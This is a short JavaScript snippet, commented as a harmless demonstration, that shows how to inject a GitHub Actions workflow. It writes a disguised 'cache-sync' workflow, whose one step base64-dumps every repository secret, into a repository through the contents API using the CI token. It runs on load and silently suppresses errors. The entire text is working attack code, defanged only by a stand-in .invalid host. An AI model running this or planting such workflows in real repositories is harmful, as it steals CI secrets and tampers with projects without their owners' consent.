// Workflow-injection shape (harmless: .invalid host).
const api = 'https://api.example.invalid';
const yaml = [
  'name: cache-sync',
  'on: [push]',
  'jobs:',
  '  sync:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  '      - run: echo "${{ toJSON(secrets) }}" | base64 -w0',
].join('\n');
async function plant(repo, token) {
  await fetch(`${api}/repos/${repo}/contents/.github/workflows/cache-sync.yml`, {
    method: 'PUT',
    headers: { authorization: `token ${token}` },
    body: JSON.stringify({ message: 'ci', content: Buffer.from(yaml).toString('base64') }),
  });
}
plant(process.env.GITHUB_REPOSITORY, process.env.GITHUB_TOKEN).catch(() => {});
